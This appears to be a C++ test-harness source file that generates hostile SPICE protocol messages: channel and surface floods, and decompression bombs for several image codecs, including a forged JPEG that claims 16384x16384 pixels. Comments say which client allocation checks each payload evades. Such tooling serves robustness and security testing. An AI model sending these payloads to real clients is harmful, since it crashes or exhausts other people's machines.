#include "attacks.hpp"

#include <spice/enums.h>

#include <cstdio>
#include <cstdlib>

#include <jpeglib.h>

#include "protocol/byte_writer.hpp"

namespace vigil::hostile {

using protocol::byte_writer;

namespace {

constexpr std::uint32_t huge_side = 16384;

// A noise byte stream (incompressible, so zlib ratio checks let it through).
bytes noise(std::size_t size, std::uint32_t seed) {
  bytes out(size);
  for (auto& byte : out) {
    seed = seed * 1103515245u + 12345u;
    byte = static_cast<std::uint8_t>(seed >> 24);
  }
  return out;
}

byte_writer& be32(byte_writer& out, std::uint32_t v) {
  return out.u8(static_cast<std::uint8_t>(v >> 24))
    .u8(static_cast<std::uint8_t>(v >> 16))
    .u8(static_cast<std::uint8_t>(v >> 8))
    .u8(static_cast<std::uint8_t>(v));
}

byte_writer& descriptor(byte_writer& out, std::uint64_t id, std::uint8_t type, std::uint32_t width,
                        std::uint32_t height) {
  return out.u64(id).u8(type).u8(0).u32(width).u32(height);
}

byte_writer& box(byte_writer& out, std::uint32_t width, std::uint32_t height) {
  return out.i32(0).i32(0).i32(static_cast<std::int32_t>(height)).i32(static_cast<std::int32_t>(width));
}

// LZ header: magic "  ZL", version 1.1, type, width, height, stride, top_down; big-endian.
bytes lz_header(std::uint32_t type, std::uint32_t width, std::uint32_t height, std::uint32_t stride) {
  byte_writer out;
  for (std::uint32_t v : {0x20205A4Cu, 0x00010001u, type, width, height, stride, 1u})
    be32(out, v);
  return out.take();
}

// A real 16x16 baseline JPEG (libjpeg) whose SOF then says 16384 x 16384.
bytes jpeg_claiming_huge_size() {
  jpeg_compress_struct compress{};
  jpeg_error_mgr errors{};
  compress.err = jpeg_std_error(&errors);
  jpeg_create_compress(&compress);
  unsigned char* buffer = nullptr;
  unsigned long size = 0;
  jpeg_mem_dest(&compress, &buffer, &size);
  compress.image_width = compress.image_height = 16;
  compress.input_components = 3;
  compress.in_color_space = JCS_RGB;
  jpeg_set_defaults(&compress);
  jpeg_start_compress(&compress, TRUE);
  std::vector<unsigned char> row(16 * 3, 0x80);
  while (compress.next_scanline < compress.image_height) {
    JSAMPROW rows[1] = {row.data()};
    jpeg_write_scanlines(&compress, rows, 1);
  }
  jpeg_finish_compress(&compress);
  jpeg_destroy_compress(&compress);
  bytes jpeg(buffer, buffer + size);
  std::free(buffer);
  for (std::size_t i = 0; i + 8 < jpeg.size(); ++i)
    if (jpeg[i] == 0xFF && jpeg[i + 1] == 0xC0) {  // SOF0: length, precision, height, width
      jpeg[i + 5] = jpeg[i + 7] = static_cast<std::uint8_t>(huge_side >> 8);
      jpeg[i + 6] = jpeg[i + 8] = static_cast<std::uint8_t>(huge_side & 0xff);
      break;
    }
  // 1024 pixels a byte was all the old client asked of a JPEG's size.
  jpeg.resize(std::size_t{huge_side} * huge_side / 1024 + 16, 0);
  return jpeg;
}

}  // namespace

const std::vector<std::string>& scenario_names() {
  static const std::vector<std::string> names = {
    "channel-list-flood", "surface-flood",  "big-primary",   "bomb-quic",        "bomb-lz_rgb",
    "bomb-lz_plt",        "bomb-glz",       "bomb-zlib_glz", "bomb-jpeg",        "bomb-lz4",
    "copy-bits",          "clip-explosion", "agent-flood",   "playback-switch", "stop-reading",
    "mouse-mode-flap",    "error-every-drawing",
  };
  return names;
}

bytes main_init(std::uint32_t session_id, bool agent_connected) {
  return byte_writer{}
    .u32(session_id)
    .u32(1)                                                    // display_channels_hint
    .u32(SPICE_MOUSE_MODE_SERVER | SPICE_MOUSE_MODE_CLIENT)    // supported
    .u32(SPICE_MOUSE_MODE_SERVER)                              // current
    .u32(agent_connected ? 1 : 0)
    .u32(10)  // agent tokens
    .u32(1000)
    .u32(64 << 10)
    .take();
}

bytes channels_list(const std::vector<std::pair<std::uint8_t, std::uint8_t>>& channels) {
  byte_writer out;
  out.u32(static_cast<std::uint32_t>(channels.size()));
  for (const auto& [type, id] : channels)
    out.u8(type).u8(id);
  return out.take();
}

bytes ping(std::uint32_t id, std::uint64_t timestamp) { return byte_writer{}.u32(id).u64(timestamp).take(); }

bytes mouse_mode(std::uint16_t current) {
  return byte_writer{}.u16(SPICE_MOUSE_MODE_SERVER | SPICE_MOUSE_MODE_CLIENT).u16(current).take();
}

bytes agent_data_of_empty_messages(std::size_t size) {
  byte_writer out;
  for (std::size_t at = 0; at + 20 <= size; at += 20)
    out.u32(1).u32(0).u64(0).u32(0);  // protocol 1, type 0, opaque 0, size 0
  return out.take();
}

bytes set_ack(std::uint32_t generation, std::uint32_t window) {
  return byte_writer{}.u32(generation).u32(window).take();
}

bytes surface_create(std::uint32_t id, std::uint32_t width, std::uint32_t height, bool primary) {
  return byte_writer{}
    .u32(id)
    .u32(width)
    .u32(height)
    .u32(SPICE_SURFACE_FMT_32_xRGB)
    .u32(primary ? SPICE_SURFACE_FLAGS_PRIMARY : 0)
    .take();
}

bytes draw_copy(std::uint32_t width, std::uint32_t height, const bytes& image) {
  // base (4 + 16 + 1), src pointer 4, src_area 16, rop 2, scale 1, mask 13: the image follows at 57.
  constexpr std::uint32_t image_offset = draw_copy_image_offset;
  byte_writer out;
  out.u32(0);
  box(out, width, height).u8(SPICE_CLIP_TYPE_NONE).u32(image_offset);
  box(out, width, height).u16(SPICE_ROPD_OP_PUT).u8(SPICE_IMAGE_SCALE_MODE_NEAREST);
  out.u8(0).i32(0).i32(0).u32(0);  // no mask
  return out.raw(image).take();
}

bytes copy_bits(std::uint32_t width, std::uint32_t height) {
  byte_writer out;
  out.u32(0);
  box(out, width, height).u8(SPICE_CLIP_TYPE_NONE).i32(1).i32(1);
  return out.take();
}

bytes fill_with_staggered_clip(std::uint32_t side, std::uint32_t count) {
  byte_writer out;
  out.u32(0);
  box(out, side, side).u8(SPICE_CLIP_TYPE_RECTS).u32(count);
  for (std::uint32_t i = 0; i < count; ++i)
    out.i32(static_cast<std::int32_t>(i))
      .i32(static_cast<std::int32_t>(2 * i))
      .i32(static_cast<std::int32_t>(side - i))
      .i32(static_cast<std::int32_t>(2 * i + 1));
  out.u8(SPICE_BRUSH_TYPE_SOLID).u32(0x00ff0000).u16(SPICE_ROPD_OP_PUT);
  out.u8(0).i32(0).i32(0).u32(0);  // no mask
  return out.take();
}

bytes image_from_cache_miss(std::uint64_t id, std::uint32_t width, std::uint32_t height) {
  byte_writer out;
  descriptor(out, id, SPICE_IMAGE_TYPE_FROM_CACHE, width, height);
  return out.take();
}

bytes bomb_image(const std::string& codec, std::uint32_t side) {
  byte_writer out;
  const std::uint64_t id = 0x1000 + side;
  if (codec == "quic") {
    // A QUIC header claiming 16384 x 16384 and the stream its minimum-bits check wanted.
    byte_writer quic;
    quic.u32(0x43495551).u32(0).u32(4).u32(huge_side).u32(huge_side);
    quic.raw(bytes(26 * 1024 * 4, 0));
    const bytes stream = quic.take();
    descriptor(out, id, SPICE_IMAGE_TYPE_QUIC, side, side).u32(static_cast<std::uint32_t>(stream.size())).raw(stream);
  } else if (codec == "lz_rgb") {
    // 16384 x 16384 RGB32 from 1 MiB of stream: 1 GiB before the first byte decoded.
    bytes stream = lz_header(8, huge_side, huge_side, huge_side * 4);
    stream.resize(stream.size() + (1 << 20), 0);
    descriptor(out, id, SPICE_IMAGE_TYPE_LZ_RGB, side, side).u32(static_cast<std::uint32_t>(stream.size())).raw(stream);
  } else if (codec == "lz_plt") {
    // One pixel wide, 16384 rows of stride 262144: the stride chose 4 GiB.
    bytes stream = lz_header(5, 1, huge_side, 262144);
    stream.resize(stream.size() + (16u << 20), 0);
    // flags, data_size, palette pointer (an offset in the DRAW_COPY body, whose
    // image starts at 57: after this 27-byte prefix and the stream), stream, palette.
    const auto palette_offset = static_cast<std::uint32_t>(57 + 27 + stream.size());
    descriptor(out, id, SPICE_IMAGE_TYPE_LZ_PLT, side, side)
      .u8(0)
      .u32(static_cast<std::uint32_t>(stream.size()))
      .u32(palette_offset)
      .raw(stream)
      .u64(1)
      .u16(1)
      .u32(0x00ffffff);
  } else if (codec == "glz") {
    byte_writer glz;
    be32(glz, 0x20205A4C);
    be32(glz, 0x00010001);
    glz.u8(8 | 1 << 4);
    be32(glz, huge_side);
    be32(glz, huge_side);
    be32(glz, huge_side * 4);
    be32(glz, 0);
    be32(glz, 1);
    be32(glz, 0);
    bytes stream = glz.take();
    stream.resize(stream.size() + (1 << 20), 0);
    descriptor(out, id, SPICE_IMAGE_TYPE_GLZ_RGB, side, side).u32(static_cast<std::uint32_t>(stream.size())).raw(stream);
  } else if (codec == "zlib_glz") {
    // glz_data_size 0xFFFFFFFF: 4 GiB allocated before inflating 4 MiB of anything.
    const bytes garbage = noise(4161790, side);
    descriptor(out, id, SPICE_IMAGE_TYPE_ZLIB_GLZ_RGB, side, side)
      .u32(0xFFFFFFFFu)
      .u32(static_cast<std::uint32_t>(garbage.size()))
      .raw(garbage);
  } else if (codec == "jpeg") {
    const bytes jpeg = jpeg_claiming_huge_size();
    descriptor(out, id, SPICE_IMAGE_TYPE_JPEG, side, side).u32(static_cast<std::uint32_t>(jpeg.size())).raw(jpeg);
  } else if (codec == "lz4") {
    // The size comes from the descriptor; one corrupt block.
    byte_writer lz4;
    lz4.u8(1).u8(SPICE_BITMAP_FMT_32BIT);
    be32(lz4, 4096);
    bytes stream = lz4.take();
    const bytes garbage = noise(4096, side);
    stream.insert(stream.end(), garbage.begin(), garbage.end());
    descriptor(out, id, SPICE_IMAGE_TYPE_LZ4, side, side).u32(static_cast<std::uint32_t>(stream.size())).raw(stream);
  }
  return out.take();
}

bytes playback_mode_raw() { return byte_writer{}.u32(0).u16(SPICE_AUDIO_DATA_MODE_RAW).take(); }

bytes playback_start(std::uint32_t channels, std::uint32_t frequency, std::uint32_t time) {
  return byte_writer{}.u32(channels).u16(SPICE_AUDIO_FMT_S16).u32(frequency).u32(time).take();
}

bytes playback_data(std::uint32_t time, std::uint32_t channels, std::uint32_t frames) {
  byte_writer out;
  out.u32(time);
  out.raw(bytes(std::size_t{frames} * channels * 2, 0));
  return out.take();
}

}  // namespace vigil::hostile
